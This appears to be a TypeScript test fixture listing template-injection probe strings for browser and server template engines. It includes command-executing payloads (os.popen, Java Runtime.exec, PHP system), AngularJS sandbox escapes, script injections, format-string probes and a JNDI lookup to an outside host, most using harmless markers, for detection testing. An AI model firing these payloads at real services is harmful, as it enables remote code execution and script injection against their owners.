/** A separate constant, so that `${` in these strings does not begin an expression of TypeScript. */
const dollar = '$';

/** Expressions that a template language would evaluate, in the browser or in the service. */
export const templates: readonly string[] = [
  '{{7*7}}',
  '{{constructor.constructor("ran(1)")()}}',
  '{{$on.constructor("ran(1)")()}}',
  '{{[].pop.constructor("ran(1)")()}}',
  '{{#with "s" as |x|}}{{lookup x "constructor"}}{{/with}}',
  '{{{<script>ran(1)</script>}}}',
  '{%import os%}{{os.popen("id").read()}}',
  '{% raw %}<script>ran(1)</script>{% endraw %}',
  `${dollar}{ran(1)}`,
  `${dollar}{7*7}`,
  `\`${dollar}{ran(1)}\``,
  '#{ran(1)}',
  '#{7*7}',
  '*{T(java.lang.Runtime).getRuntime().exec("id")}',
  '<%= ran(1) %>',
  '<%- ran(1) %>',
  '<? ran(1) ?>',
  '<?php system("id"); ?>',
  `[[${dollar}{ran(1)}]]`,
  '@(ran(1))',
  `${dollar}{jndi:ldap://foreign.example/x}`,
  '%{ran}',
  '%{smart_count} |||| ran',
  '||||',
  '%s%n%x',
  "$& $1 $` $'",
];
